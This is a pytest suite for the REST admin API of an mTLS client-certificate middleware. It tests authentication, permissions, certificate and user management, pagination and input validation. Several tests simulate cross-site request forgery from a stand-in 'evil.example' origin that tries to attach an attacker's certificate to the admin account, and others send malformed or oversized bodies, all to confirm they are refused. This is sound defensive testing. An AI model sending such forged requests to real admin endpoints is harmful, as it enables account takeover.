"""admin/rest.py: the REST API, behind the real WSGI MTLSMiddleware over a real SQLite store.

Every request presents a client certificate the way a TLS server hands it over; the end-to-end
tests at the bottom do real TLS handshakes with curl (our pyOpenSSL listener) and drive the ASGI
adapter behind the ASGI middleware.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import datetime as dt
import io
import json
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from werkzeug.middleware.dispatcher import DispatcherMiddleware
from werkzeug.test import Client, TestResponse

from mtls_middleware import LoginRecord, MemoryStore, MTLSConfig, Reason
from mtls_middleware.admin.rest import DEFAULT_MAX_BODY, RestAPI, asgi_app
from mtls_middleware.asgi import MTLSMiddleware as ASGIMiddleware
from mtls_middleware.errors import ConfigurationError, MTLSError
from mtls_middleware.server import make_server
from mtls_middleware.stores.base import MANAGE_CERTIFICATES, MAX_UPLOAD_BYTES, Store
from mtls_middleware.stores.sqlite import SQLiteStore
from mtls_middleware.testing import SERVER_AUTH, Issued, TestPKI, with_client_certificate
from mtls_middleware.wsgi import MTLSMiddleware
from tests.admin.rest_support import Presenting, add_admin, client, protected
from tests.conftest import require_service
from tests.stores.backends import KINDS, open_kind

UTC = dt.timezone.utc
PEM = "application/x-pem-file"
#: What a multipart upload must carry (the API's cross-site request forgery defence).
CSRF = {"X-MTLS-CSRF": "1"}


@pytest.fixture(scope="module")
def admin_cert(pki: TestPKI) -> Issued:
    return pki.issue_client("rest admin")


@pytest.fixture(scope="module")
def carol(pki: TestPKI) -> Issued:
    return pki.issue_client("carol")


@pytest.fixture(scope="module")
def dave(pki: TestPKI) -> Issued:
    return pki.issue_client("dave")


@dataclass
class Api:
    store: Store
    client: Client

    def upload(self, cert: Issued, user_id: str = "alice", label: str | None = None) -> TestResponse:
        body: dict[str, Any] = {"user_id": user_id, "pem": cert.chain_pem.decode()}
        if label is not None:
            body["label"] = label
        return self.client.post("/certificates", json=body)

    def audit(self, **query: str) -> list[dict[str, Any]]:
        response = self.client.get("/audit-log", query_string=query)
        assert response.status_code == 200, response.json
        items: list[dict[str, Any]] = response.json["items"]
        return items


def _seed(store: Store, admin_cert: Issued) -> None:
    add_admin(store, admin_cert)
    store.add_user("alice", org="acme")


@pytest.fixture
def store(admin_cert: Issued) -> MemoryStore:
    """A store holding ``admin`` (org ``ops``, manage_certificates) and ``alice`` (org ``acme``).
    In memory: the store contract suite shows every store behaves the same; the SQLite store is
    used by the tests marked so below (and by the schemathesis run)."""
    opened = MemoryStore()
    _seed(opened, admin_cert)
    return opened


@pytest.fixture
def sqlite_store(tmp_path: Path, admin_cert: Issued) -> Iterator[SQLiteStore]:
    """The same in a real SQLite file."""
    opened = SQLiteStore(tmp_path / "store.db")
    _seed(opened, admin_cert)
    yield opened
    opened.close()


@pytest.fixture
def api(store: MemoryStore, pki: TestPKI, admin_cert: Issued) -> Api:
    return Api(store, client(store, pki, admin_cert))


def error(response: TestResponse) -> str:
    """The reason code of a refusal, after checking the body is exactly the documented shape."""
    body = response.json
    assert response.mimetype == "application/json"
    assert set(body) <= {"error", "message", "parameter", "rows"}, body
    assert body["message"] == Reason(body["error"]).message
    assert Reason(body["error"]).status == response.status_code
    return str(body["error"])


def pages(api: Api, path: str, limit: int, **query: str) -> list[list[dict[str, Any]]]:
    """Every page of a listing, following next_cursor."""
    found: list[list[dict[str, Any]]] = []
    cursor: str | None = None
    while True:
        params = {**query, "limit": str(limit), **({"cursor": cursor} if cursor else {})}
        response = api.client.get(path, query_string=params)
        assert response.status_code == 200, response.json
        found.append(response.json["items"])
        cursor = response.json["next_cursor"]
        if cursor is None:
            return found


# -- who may call it --------------------------------------------------------------------------


def test_without_an_identity_the_api_answers_401_no_certificate(store: MemoryStore) -> None:
    response = Client(RestAPI(store)).get("/certificates")
    assert response.status_code == 401
    assert error(response) == "no_certificate"


def test_behind_the_middleware_no_certificate_is_401(store: MemoryStore, pki: TestPKI) -> None:
    response = client(store, pki, None).get("/certificates")
    assert response.status_code == 401
    assert error(response) == "no_certificate"


def test_a_user_without_manage_certificates_is_refused_and_changes_nothing(
    store: MemoryStore, pki: TestPKI, alice: Issued, carol: Issued
) -> None:
    store.upload_certificate(alice.chain_pem, user_id="alice")
    plain = client(store, pki, alice)
    attempts = [
        plain.get("/certificates"),
        plain.post("/certificates", json={"user_id": "alice", "pem": carol.chain_pem.decode()}),
        plain.delete(f"/certificates/{alice.fingerprint}"),
        plain.patch("/users/alice", json={"permissions": [MANAGE_CERTIFICATES]}),
        plain.get("/audit-log"),
    ]
    assert [(r.status_code, error(r)) for r in attempts] == [(403, "permission_denied")] * 5
    assert {c.user_id for c in store.list_certificates()} == {"admin", "alice"}
    assert carol.fingerprint not in {c.fingerprint for c in store.list_certificates()}
    assert store.get_user("alice").permissions == frozenset()
    assert store.audit_log() == []


def test_granting_the_permission_lets_the_user_in(api: Api, pki: TestPKI, alice: Issued) -> None:
    api.store.upload_certificate(alice.chain_pem, user_id="alice")
    assert api.client.patch("/users/alice", json={"permissions": ["manage_certificates"]}).status_code == 200
    assert client(api.store, pki, alice).get("/users").status_code == 200


def test_the_openapi_document_is_served_without_an_identity(store: MemoryStore) -> None:
    response = Client(RestAPI(store)).get("/openapi.json")
    assert response.status_code == 200
    assert response.json["openapi"] == "3.1.0"


@pytest.mark.parametrize(
    "options",
    [
        pytest.param({"max_body": 10}, id="max-body-below-one-upload"),
        pytest.param({"max_import_body": MAX_UPLOAD_BYTES - 1}, id="import-below-one-upload"),
        pytest.param({"permission": " "}, id="blank-permission"),
    ],
)
def test_bad_configuration_fails_at_construction(store: MemoryStore, options: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError):
        RestAPI(store, **options)


def test_not_a_store_fails_at_construction() -> None:
    with pytest.raises(ConfigurationError, match="needs a Store"):
        RestAPI(object())  # type: ignore[arg-type]


# -- cross-site request forgery ---------------------------------------------------------------
# The browser presents the admin's client certificate to any page's request by itself: a hostile
# page must not be able to make a change. Each refusal below is what a browser sends cross-site.

CROSS_SITE = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
EVIL = {"Origin": "https://evil.example"}


def _multipart(pem: bytes, **fields: str) -> dict[str, Any]:
    return {"file": (io.BytesIO(pem), "a.pem"), **fields}


def _csv(*rows: tuple[str, str, str]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out).writerows([("user_id", "label", "pem"), *rows])
    return out.getvalue()


@pytest.mark.parametrize(
    ("method", "path", "kwargs"),
    [
        pytest.param("post", "/certificates", {"multipart": True, "headers": {**CROSS_SITE, **EVIL, **CSRF}},
                     id="multipart-upload-cross-site"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {**EVIL, **CSRF}},
                     id="multipart-upload-other-origin"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "null", **CSRF}},
                     id="multipart-upload-opaque-origin"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Sec-Fetch-Site": "same-site", **CSRF}},
                     id="multipart-upload-same-site-is-not-same-origin"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {}},
                     id="multipart-upload-without-header-old-browser"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "http://localhost.evil"}},
                     id="multipart-upload-lookalike-origin"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "https://localhost"}},
                     id="multipart-upload-other-scheme"),
        pytest.param("post", "/certificates", {"multipart": True, "headers": {"Origin": "http://localhost:8080"}},
                     id="multipart-upload-other-port"),
        pytest.param("post", "/certificates/import", {"import": True, "headers": {}},
                     id="multipart-import-without-header"),
        pytest.param("post", "/certificates/import", {"import": True, "headers": {**EVIL, **CSRF}},
                     id="multipart-import-other-origin"),
        pytest.param("post", "/certificates?user_id=admin", {"raw": "text/plain", "headers": {}},
                     id="text-plain-without-header"),
        pytest.param("post", "/certificates?user_id=admin",
                     {"raw": "application/x-www-form-urlencoded", "headers": {}}, id="form-without-header"),
        pytest.param("post", "/certificates?user_id=admin", {"raw": "", "headers": {}},
                     id="no-content-type-without-header"),
        pytest.param("post", "/certificates", {"json": True, "headers": EVIL}, id="json-upload-other-origin"),
        pytest.param("post", "/certificates?user_id=admin", {"raw": PEM, "headers": CROSS_SITE},
                     id="pem-upload-cross-site"),
        pytest.param("patch", "/users/alice", {"body": {"permissions": [MANAGE_CERTIFICATES]}, "headers": EVIL},
                     id="patch-user-other-origin"),
        pytest.param("put", "/organisations/acme", {"body": {"cert_auth": False}, "headers": CROSS_SITE},
                     id="put-org-cross-site"),
        pytest.param("post", "/users", {"body": {"user_id": "mallory"}, "headers": {"Sec-Fetch-Site": "same-site"}},
                     id="create-user-same-site"),
        pytest.param("delete", "/certificates/{admin}", {"headers": EVIL}, id="delete-other-origin"),
    ],
)
def test_a_change_a_page_of_another_site_could_make_is_403_and_changes_nothing(
    api: Api, pki: TestPKI, admin_cert: Issued, method: str, path: str, kwargs: dict[str, Any]
) -> None:
    mallory = pki.issue_client("mallory's second key")
    headers = dict(kwargs["headers"])
    send: dict[str, Any] = {}
    if kwargs.get("multipart"):
        send["data"] = _multipart(mallory.chain_pem, user_id="admin", label="x")
    elif kwargs.get("import"):
        send["data"] = {"file": (io.BytesIO(_csv(("admin", "x", mallory.chain_pem.decode())).encode()), "x.csv")}
    elif "raw" in kwargs:
        send["data"] = mallory.chain_pem
        headers["Content-Type"] = kwargs["raw"]
    elif kwargs.get("json"):
        send["json"] = {"user_id": "admin", "pem": mallory.chain_pem.decode()}
    elif "body" in kwargs:
        send["json"] = kwargs["body"]
    before = (api.store.list_certificates(), api.store.list_users(), api.store.list_orgs())
    response = api.client.open(
        path.format(admin=admin_cert.fingerprint), method=method.upper(), headers=headers, **send
    )
    assert (response.status_code, error(response)) == (403, "permission_denied")
    assert (api.store.list_certificates(), api.store.list_users(), api.store.list_orgs()) == before
    assert api.audit() == []


def test_the_reviewers_attack_no_longer_lends_the_admin_account(api: Api, pki: TestPKI) -> None:
    """A hostile page's form posts Mallory's second certificate to user admin; had it worked, that
    certificate would sign in as admin."""
    mallory = pki.issue_client("mallory second key")
    response = api.client.post(
        "/certificates", data=_multipart(mallory.chain_pem, user_id="admin", label="x"),
        headers={**EVIL, **CROSS_SITE},
    )
    assert (response.status_code, error(response)) == (403, "permission_denied")
    stolen = client(api.store, pki, mallory).get("/users")
    assert (stolen.status_code, error(stolen)) == (403, "unknown_certificate")


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({**CSRF}, id="header-only-curl"),
        pytest.param({**CSRF, "Sec-Fetch-Site": "same-origin", "Origin": "http://localhost"}, id="own-page"),
        pytest.param({**CSRF, "Origin": "http://LOCALHOST:80"}, id="own-origin-default-port-any-case"),
        pytest.param({**CSRF, "Sec-Fetch-Site": "none"}, id="typed-by-the-user"),
        pytest.param({"X-MTLS-CSRF": ""}, id="header-any-value"),
    ],
)
def test_multipart_from_the_apis_own_origin_with_the_header_is_accepted(
    api: Api, alice: Issued, headers: dict[str, str]
) -> None:
    response = api.client.post("/certificates", data=_multipart(alice.chain_pem, user_id="alice"), headers=headers)
    assert response.status_code == 201, response.json


def test_json_pem_and_csv_bodies_need_no_header(api: Api, alice: Issued, carol: Issued, dave: Issued) -> None:
    """A browser sends these cross-site only after a CORS preflight, which the API never answers."""
    api.store.add_user("carol", org="acme")
    assert api.upload(alice).status_code == 201
    raw = api.client.post("/certificates?user_id=carol", data=carol.chain_pem, headers={"Content-Type": PEM})
    assert raw.status_code == 201, raw.json
    imported = api.client.post(
        "/certificates/import", data=_csv(("alice", "d", dave.chain_pem.decode())),
        headers={"Content-Type": "text/csv", "Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"},
    )
    assert imported.status_code == 201, imported.json


def test_reads_are_not_refused_cross_site(api: Api) -> None:
    """A page of another site may make the browser send a GET but cannot read the answer (no CORS)."""
    assert api.client.get("/users", headers={**EVIL, **CROSS_SITE}).status_code == 200


def test_behind_a_prefix_and_https_the_own_origin_is_the_requests(
    store: MemoryStore, pki: TestPKI, admin_cert: Issued, alice: Issued
) -> None:
    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    mounted = MTLSMiddleware(DispatcherMiddleware(RestAPI(store), {"/admin/api": RestAPI(store)}), config)
    web = Client(Presenting(mounted, admin_cert))
    send = {"data": _multipart(alice.chain_pem, user_id="alice"), "base_url": "https://admin.example.org/"}
    own = web.post("/admin/api/certificates", headers={**CSRF, "Origin": "https://admin.example.org"}, **send)
    assert own.status_code == 201, own.json
    other = web.post("/admin/api/certificates", headers={**CSRF, "Origin": "https://example.org"},
                     data=_multipart(alice.chain_pem, user_id="alice"), base_url="https://admin.example.org/")
    assert (other.status_code, error(other)) == (403, "permission_denied")



# -- certificates: upload ---------------------------------------------------------------------


def test_upload_json_registers_audits_and_points_to_the_record(api: Api, alice: Issued) -> None:
    response = api.upload(alice, label="alice laptop")
    assert response.status_code == 201
    assert response.json["fingerprint"] == alice.fingerprint
    assert response.json["label"] == "alice laptop"
    assert response.json["uploaded_by"] == "rest:admin"
    assert response.headers["Location"] == f"/certificates/{alice.fingerprint}"
    assert api.store.get_certificate(alice.fingerprint).user_id == "alice"
    (entry,) = api.audit()
    assert (entry["actor"], entry["action"], entry["target"]) == (
        "rest:admin", "certificate.upload", alice.fingerprint
    )
    assert entry["before"] is None
    assert entry["after"]["label"] == "alice laptop"
    assert entry["after"]["user_id"] == "alice"


def test_upload_raw_pem_is_kept_byte_for_byte(api: Api, alice: Issued) -> None:
    uploaded = b"# alice's card, issued 2026\n" + alice.chain_pem + b"\n\n"
    response = api.client.post(
        "/certificates?user_id=alice&label=raw", data=uploaded, headers={"Content-Type": PEM}
    )
    assert response.status_code == 201, response.json
    assert response.json["label"] == "raw"
    download = api.client.get(f"/certificates/{alice.fingerprint}", headers={"Accept": PEM})
    assert download.status_code == 200
    assert download.mimetype == PEM
    assert download.data == uploaded


def test_upload_multipart(api: Api, alice: Issued) -> None:
    response = api.client.post(
        "/certificates",
        data={"file": (io.BytesIO(alice.chain_pem), "alice.pem"), "user_id": "alice", "label": "from a form"},
        headers=CSRF,
    )
    assert response.status_code == 201, response.json
    assert api.store.get_certificate(alice.fingerprint).label == "from a form"


def test_upload_without_label_takes_the_subject(api: Api, alice: Issued) -> None:
    assert api.upload(alice).json["label"] == alice.cert.subject.rfc4514_string()


def test_a_second_upload_is_409_duplicate_certificate(api: Api, alice: Issued) -> None:
    api.store.add_user("bob", org="acme")
    assert api.upload(alice).status_code == 201
    for owner in ("alice", "bob"):
        response = api.upload(alice, user_id=owner)
        assert (response.status_code, error(response)) == (409, "duplicate_certificate")
    assert len(api.audit(action="certificate.upload")) == 1


@pytest.fixture(scope="module")
def refused_uploads(pki: TestPKI) -> dict[str, bytes]:
    now = dt.datetime.now(UTC)
    expired = pki.issue_client("expired", not_before=now - dt.timedelta(days=30), not_after=now - dt.timedelta(days=1))
    server_only = pki.issue_client("server only", eku=(SERVER_AUTH,))
    with_key = pki.issue_client("careless")
    return {
        "expired": expired.chain_pem,
        "server_only": server_only.chain_pem,
        "with_key": with_key.chain_pem + with_key.key_pem,
        "not_pem": b"hello",
        "garbage_pem": b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
    }


@pytest.mark.parametrize(
    ("case", "user_id", "status", "code"),
    [
        pytest.param("expired", "alice", 403, "certificate_expired", id="expired"),
        pytest.param("server_only", "alice", 403, "missing_client_auth_eku", id="no-client-eku"),
        pytest.param("with_key", "alice", 400, "malformed_certificate", id="private-key-included"),
        pytest.param("not_pem", "alice", 400, "malformed_certificate", id="not-pem"),
        pytest.param("garbage_pem", "alice", 400, "malformed_certificate", id="garbage-in-pem"),
        pytest.param("expired", "nobody", 403, "certificate_expired", id="rules-before-user"),
    ],
)
def test_refused_uploads_get_their_reason_code_and_store_nothing(
    api: Api, refused_uploads: dict[str, bytes], case: str, user_id: str, status: int, code: str
) -> None:
    before = api.store.list_certificates()
    response = api.client.post(
        f"/certificates?user_id={user_id}", data=refused_uploads[case], headers={"Content-Type": PEM}
    )
    assert (response.status_code, error(response)) == (status, code)
    assert api.store.list_certificates() == before
    assert api.audit() == []


def test_upload_to_an_unknown_user_is_404_unknown_user(api: Api, carol: Issued) -> None:
    response = api.upload(carol, user_id="nobody")
    assert (response.status_code, error(response)) == (404, "unknown_user")


def test_a_pem_over_1mb_within_the_body_limit_is_certificate_too_large(api: Api, alice: Issued) -> None:
    pem = alice.chain_pem + b"#" * (MAX_UPLOAD_BYTES + 1)
    assert len(pem) < DEFAULT_MAX_BODY
    response = api.client.post("/certificates?user_id=alice", data=pem, headers={"Content-Type": PEM})
    assert (response.status_code, error(response)) == (400, "certificate_too_large")


@pytest.mark.parametrize("chunked", [pytest.param(False, id="content-length"), pytest.param(True, id="chunked")])
def test_a_body_over_the_limit_is_413_request_too_large(api: Api, chunked: bool) -> None:
    body = b"x" * (DEFAULT_MAX_BODY + 1)
    if chunked:  # no Content-Length: the API must stop reading at the limit by itself
        response = api.client.post(
            "/certificates?user_id=alice",
            input_stream=io.BytesIO(body),
            headers={"Content-Type": PEM, "Transfer-Encoding": "chunked"},
            environ_overrides={"wsgi.input_terminated": True},
        )
    else:
        response = api.client.post("/certificates?user_id=alice", data=body, headers={"Content-Type": PEM})
    assert (response.status_code, error(response)) == (413, "request_too_large")


@pytest.mark.parametrize(
    ("body", "content_type", "status", "code", "parameter"),
    [
        pytest.param(b"{", "application/json", 400, "invalid_request", "body", id="truncated-json"),
        pytest.param(b"\xff\xfe\x00", "application/json", 400, "invalid_request", "body", id="not-utf8"),
        pytest.param(b"[" * 100_000, "application/json", 400, "invalid_request", "body", id="deep-nesting"),
        pytest.param(b"[]", "application/json", 400, "invalid_request", "body", id="not-an-object"),
        pytest.param(b'{"pem": "x"}', "application/json", 400, "invalid_request", "user_id", id="no-user"),
        pytest.param(b'{"user_id": "alice"}', "application/json", 400, "invalid_request", "pem", id="no-pem"),
        pytest.param(b'{"user_id": "alice", "pem": 5}', "application/json", 400, "invalid_request", "pem",
                     id="pem-not-text"),
        pytest.param(b'{"user_id": 1, "pem": "x"}', "application/json", 400, "invalid_request", "user_id",
                     id="user-not-text"),
        pytest.param(b'{"user_id": "alice", "pem": "x", "label": "a\\u0000b"}', "application/json", 400,
                     "invalid_request", "label", id="nul-in-label"),
        pytest.param(b'{"user_id": "alice", "pem": "x", "label": "\\udcff"}', "application/json", 400,
                     "invalid_request", "label", id="lone-surrogate"),
        pytest.param(b'{"user_id": "alice", "pem": "x", "owner": "bob"}', "application/json", 400,
                     "invalid_request", "owner", id="unknown-member"),
        pytest.param(b"x", "text/plain", 415, "unsupported_media_type", None, id="text-plain"),
        pytest.param(b"x", "", 415, "unsupported_media_type", None, id="no-content-type"),
        pytest.param(b"--x\r\n", "multipart/form-data; boundary=x", 400, "invalid_request", "file",
                     id="broken-multipart"),
        pytest.param(b"x", "multipart/form-data", 400, "invalid_request", "file", id="multipart-no-boundary"),
    ],
)
def test_malformed_upload_requests_get_a_4xx_code(
    api: Api, body: bytes, content_type: str, status: int, code: str, parameter: str | None
) -> None:
    response = api.client.post("/certificates", data=body, headers={"Content-Type": content_type, **CSRF})
    assert (response.status_code, error(response)) == (status, code)
    assert response.json.get("parameter") == parameter


def test_raw_upload_without_user_id_is_400(api: Api, alice: Issued) -> None:
    response = api.client.post("/certificates", data=alice.chain_pem, headers={"Content-Type": PEM})
    assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", "user_id")


# -- certificates: read, list, rename, delete -------------------------------------------------


def test_get_by_content_negotiation(api: Api, alice: Issued) -> None:
    api.upload(alice, label="laptop")
    path = f"/certificates/{alice.fingerprint.upper()}"  # either case
    as_json = api.client.get(path)
    assert as_json.mimetype == "application/json"
    assert as_json.json["label"] == "laptop"
    assert as_json.json["days_left"] >= 0
    as_pem = api.client.get(path, headers={"Accept": f"{PEM}, application/json;q=0.5"})
    assert (as_pem.mimetype, as_pem.data) == (PEM, alice.chain_pem)
    preferring_json = api.client.get(path, headers={"Accept": f"application/json, {PEM};q=0.5"})
    assert preferring_json.mimetype == "application/json"


@pytest.mark.parametrize(
    ("method", "kwargs"),
    [
        pytest.param("get", {}, id="get"),
        pytest.param("patch", {"json": {"label": "x"}}, id="patch"),
        pytest.param("delete", {}, id="delete"),
    ],
)
def test_an_unknown_fingerprint_is_404_not_found(api: Api, method: str, kwargs: dict[str, Any]) -> None:
    for path in (f"/certificates/{'ab' * 32}", "/certificates/not-a-fingerprint", f"/certificates/{'ab' * 33}"):
        response = getattr(api.client, method)(path, **kwargs)
        assert (response.status_code, error(response)) == (404, "not_found"), path


def test_list_filters(api: Api, alice: Issued, carol: Issued, dave: Issued) -> None:
    api.store.add_user("carol", org="zeta")
    api.upload(alice)
    api.upload(carol, user_id="carol")
    api.upload(dave)

    def listed(**query: str) -> set[str]:
        response = api.client.get("/certificates", query_string=query)
        assert response.status_code == 200, response.json
        return {item["fingerprint"] for item in response.json["items"]}

    assert listed(user_id="alice") == {alice.fingerprint, dave.fingerprint}
    assert listed(org="zeta") == {carol.fingerprint}
    assert listed(org="acme", user_id="carol") == set()
    soon = (dt.datetime.now(UTC) + dt.timedelta(days=400)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert listed(expiring_before=soon, org="acme") == {alice.fingerprint, dave.fingerprint}
    assert listed(expiring_before="2000-01-01T00:00:00Z") == set()
    unknown = api.client.get("/certificates?user_id=nobody")
    assert (unknown.status_code, error(unknown)) == (404, "unknown_user")


def test_pagination_shows_every_certificate_once(api: Api, pki: TestPKI, admin_cert: Issued) -> None:
    certs = [pki.issue_client(f"paged {i}") for i in range(7)]
    for cert in certs:
        assert api.upload(cert).status_code == 201
    found = pages(api, "/certificates", 3)
    assert [len(page) for page in found] == [3, 3, 2]
    shown = [item["fingerprint"] for page in found for item in page]
    assert sorted(shown) == sorted([admin_cert.fingerprint, *(c.fingerprint for c in certs)])


def test_a_delete_between_pages_skips_nothing(api: Api, pki: TestPKI) -> None:
    for i in range(5):
        assert api.upload(pki.issue_client(f"deleted between pages {i}")).status_code == 201
    first = api.client.get("/certificates?limit=3").json
    assert first["next_cursor"] is not None, first
    everything = [i["fingerprint"] for i in api.client.get("/certificates").json["items"]]
    victim = next(i["fingerprint"] for i in first["items"] if i["user_id"] != "admin")  # not our own
    assert api.client.delete(f"/certificates/{victim}").status_code == 204
    second = api.client.get("/certificates", query_string={"limit": "3", "cursor": first["next_cursor"]}).json
    assert [i["fingerprint"] for i in second["items"]] == everything[3:6]


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        pytest.param("limit=0", "limit", id="limit-zero"),
        pytest.param("limit=1001", "limit", id="limit-over-max"),
        pytest.param("limit=abc", "limit", id="limit-not-a-number"),
        pytest.param("limit=-1", "limit", id="limit-negative"),
        pytest.param("limit=1&limit=2", "limit", id="limit-twice"),
        pytest.param("cursor=%%%", "cursor", id="cursor-not-base64"),
        pytest.param("cursor=WyJ1c2VycyIsWyJhIl1d", "cursor", id="cursor-of-another-listing"),
        pytest.param("cursor=WyJjZXJ0aWZpY2F0ZXMiLFsiYSIsMV1d", "cursor", id="cursor-wrong-shape"),
        pytest.param("expiring_before=tomorrow", "expiring_before", id="time-not-rfc3339"),
        pytest.param("expiring_before=2026-02-30T00:00:00Z", "expiring_before", id="time-impossible"),
        pytest.param("expiring_before=2026-01-01T00:00:00", "expiring_before", id="time-without-zone"),
        pytest.param("user_id=%00", "user_id", id="user-nul"),
        pytest.param("org=%20acme", "org", id="org-surrounding-blank"),
    ],
)
def test_bad_list_parameters_are_400_invalid_request(api: Api, query: str, parameter: str) -> None:
    response = api.client.get(f"/certificates?{query}")
    assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", parameter)


def test_rename_audits_before_and_after(api: Api, alice: Issued) -> None:
    api.upload(alice, label="old")
    response = api.client.patch(f"/certificates/{alice.fingerprint}", json={"label": "new"})
    assert response.status_code == 200
    assert response.json["label"] == "new"
    assert api.store.get_certificate(alice.fingerprint).label == "new"
    (entry,) = api.audit(action="certificate.rename")
    assert (entry["before"]["label"], entry["after"]["label"], entry["target"]) == ("old", "new", alice.fingerprint)


@pytest.mark.parametrize(
    ("kwargs", "status", "code"),
    [
        pytest.param({"data": "new", "content_type": "text/plain"}, 415, "unsupported_media_type", id="not-json"),
        pytest.param({"json": {}}, 400, "invalid_request", id="no-label"),
        pytest.param({"json": {"label": ""}}, 400, "invalid_request", id="empty-label"),
        pytest.param({"json": {"label": "x" * 1001}}, 400, "invalid_request", id="label-too-long"),
        pytest.param({"json": {"label": "a\nb"}}, 400, "invalid_request", id="newline-in-label"),
    ],
)
def test_bad_renames_are_refused(api: Api, alice: Issued, kwargs: dict[str, Any], status: int, code: str) -> None:
    api.upload(alice, label="kept")
    response = api.client.patch(f"/certificates/{alice.fingerprint}", **kwargs)
    assert (response.status_code, error(response)) == (status, code)
    assert api.store.get_certificate(alice.fingerprint).label == "kept"


def test_delete_audits_and_the_certificate_no_longer_signs_in(
    api: Api, pki: TestPKI, alice: Issued
) -> None:
    api.upload(alice)
    api.store.set_user_permissions("alice", [MANAGE_CERTIFICATES])
    as_alice = client(api.store, pki, alice)
    assert as_alice.get("/users").status_code == 200  # cached verdict from here on
    response = api.client.delete(f"/certificates/{alice.fingerprint}")
    assert response.status_code == 204
    assert response.data == b""
    gone = api.client.get(f"/certificates/{alice.fingerprint}")
    assert (gone.status_code, error(gone)) == (404, "not_found")
    refused = as_alice.get("/users")
    assert (refused.status_code, error(refused)) == (403, "unknown_certificate")
    (entry,) = api.audit(action="certificate.delete")
    assert entry["after"] is None
    assert entry["before"]["fingerprint"] == alice.fingerprint


# -- nested under users/{id}/certificates -----------------------------------------------------


def test_nested_routes_see_only_that_users_certificates(api: Api, alice: Issued, carol: Issued) -> None:
    api.store.add_user("carol", org="acme")
    upload = api.client.post("/users/carol/certificates", json={"pem": carol.chain_pem.decode(), "label": "c"})
    assert upload.status_code == 201, upload.json
    assert upload.headers["Location"] == f"/users/carol/certificates/{carol.fingerprint}"
    api.upload(alice)
    listed = api.client.get("/users/carol/certificates").json["items"]
    assert [i["fingerprint"] for i in listed] == [carol.fingerprint]
    assert api.client.get(f"/users/carol/certificates/{carol.fingerprint}").json["label"] == "c"
    for method, kwargs in (("get", {}), ("patch", {"json": {"label": "x"}}), ("delete", {})):
        other = getattr(api.client, method)(f"/users/carol/certificates/{alice.fingerprint}", **kwargs)
        assert (other.status_code, error(other)) == (404, "not_found")
    assert api.store.get_certificate(alice.fingerprint).label != "x"
    renamed = api.client.patch(f"/users/carol/certificates/{carol.fingerprint}", json={"label": "renamed"})
    assert renamed.json["label"] == "renamed"
    assert api.client.delete(f"/users/carol/certificates/{carol.fingerprint}").status_code == 204


def test_nested_upload_refuses_a_user_id_in_the_body(api: Api, alice: Issued) -> None:
    response = api.client.post(
        "/users/alice/certificates", json={"pem": alice.chain_pem.decode(), "user_id": "admin"}
    )
    assert (response.status_code, error(response)) == (400, "invalid_request")


def test_nested_routes_of_an_unknown_user_are_404_unknown_user(api: Api, alice: Issued) -> None:
    for response in (
        api.client.get("/users/nobody/certificates"),
        api.client.post("/users/nobody/certificates", json={"pem": alice.chain_pem.decode()}),
        api.client.get(f"/users/nobody/certificates/{alice.fingerprint}"),
    ):
        assert (response.status_code, error(response)) == (404, "unknown_user")


# -- users ------------------------------------------------------------------------------------


def test_create_list_get_user(api: Api) -> None:
    created = api.client.post(
        "/users", json={"user_id": "bob smith", "org": "acme", "permissions": ["api_only"]}
    )
    assert created.status_code == 201
    assert created.json == {"user_id": "bob smith", "org": "acme", "active": True, "permissions": ["api_only"]}
    assert created.headers["Location"] == "/users/bob%20smith"
    assert api.client.get("/users/bob%20smith").json["org"] == "acme"
    assert [u["user_id"] for u in api.client.get("/users?org=acme").json["items"]] == ["alice", "bob smith"]
    (entry,) = api.audit(action="user.create")
    assert (entry["target"], entry["before"], entry["after"]["permissions"]) == ("bob smith", None, ["api_only"])


def test_creating_an_existing_user_is_409_and_changes_nothing(api: Api) -> None:
    response = api.client.post("/users", json={"user_id": "alice", "org": "elsewhere"})
    assert (response.status_code, error(response)) == (409, "duplicate_user")
    assert api.store.get_user("alice").org == "acme"


@pytest.mark.parametrize(
    ("body", "parameter"),
    [
        pytest.param({}, "user_id", id="no-user-id"),
        pytest.param({"user_id": ""}, "user_id", id="empty-user-id"),
        pytest.param({"user_id": " x"}, "user_id", id="leading-blank"),
        pytest.param({"user_id": "x" * 256}, "user_id", id="too-long"),
        pytest.param({"user_id": "x", "active": "yes"}, "active", id="active-not-bool"),
        pytest.param({"user_id": "x", "active": 1}, "active", id="active-int"),
        pytest.param({"user_id": "x", "permissions": "api_only"}, "permissions", id="permissions-a-string"),
        pytest.param({"user_id": "x", "permissions": ["a", "a"]}, "permissions", id="permissions-repeated"),
        pytest.param({"user_id": "x", "permissions": [" "]}, "permissions", id="permission-blank"),
        pytest.param({"user_id": "x", "org": None}, "org", id="org-null"),
        pytest.param({"user_id": "x", "role": "admin"}, "role", id="unknown-member"),
    ],
)
def test_bad_user_bodies_are_400(api: Api, body: dict[str, Any], parameter: str) -> None:
    response = api.client.post("/users", json=body)
    assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", parameter)
    assert [u.user_id for u in api.store.list_users()] == ["admin", "alice"]


def test_list_users_pages(api: Api) -> None:
    for name in ("u1", "u2", "u3", "u4"):
        api.store.add_user(name)
    found = pages(api, "/users", 2)
    assert [[u["user_id"] for u in page] for page in found] == [["admin", "alice"], ["u1", "u2"], ["u3", "u4"]]


